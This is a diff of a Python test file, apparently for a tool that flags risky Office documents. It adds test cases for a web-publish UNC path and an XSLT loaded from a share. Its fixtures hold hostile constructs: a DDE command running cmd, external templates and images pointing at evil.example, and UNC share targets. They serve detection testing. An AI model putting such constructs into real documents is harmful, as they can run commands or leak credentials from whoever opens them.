@@ -61,7 +61,7 @@ def test_up_24_what_people_write_is_taken(data, ending):
 NAMES = (
     "type after mode|utf-16|character references|image elsewhere|share|package|ole|chunk|left lying|other workbook"
     "|renamed macros|macros by type|split ddeauto|referenced ddeauto|picture|nested|hyperlink to a share"
-    "|dde|web service|vml|entities|twice"
+    "|dde|web service|vml|published|style sheet|entities|twice"
 )
 UTF16 = relations(relation("attachedTemplate", EVIL, OUTSIDE)).replace('"1.0"', '"1.0" encoding="UTF-16"')
 TYPE_LAST = f'<Relationship Id="r" TargetMode="External" Target="{EVIL}" Type="{OFFICE}/attachedTemplate"/>'
@@ -94,6 +94,8 @@ NESTED = field("QUOTE 68 68 69").replace("QUOTE", "</w:instrText></w:r>" + field
         (made("xl/workbook.xml", body="<definedName>cmd|'/c calc'!A1</definedName>"), "fields"),
         (made("xl/workbook.xml", body="<f>_xlfn.WEBSERVICE(A1)</f>"), "fields"),
         (made(body='<v:imagedata xmlns:v="urn:v" src="https://evil.example/a"/>'), "remote"),
+        (made("xl/workbook.xml", body='<webPublishItem destinationFile="\\\\e\\a.htm" autoRepublish="1"/>'), "remote"),
+        (made(body='<w:saveThroughXslt w:solutionID="\\\\evil.example\\a.xslt"/>'), "remote"),
         (made(leads=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
         (made(**{"WORD/document.xml": "<x/>"}), "damaged"),
     ],
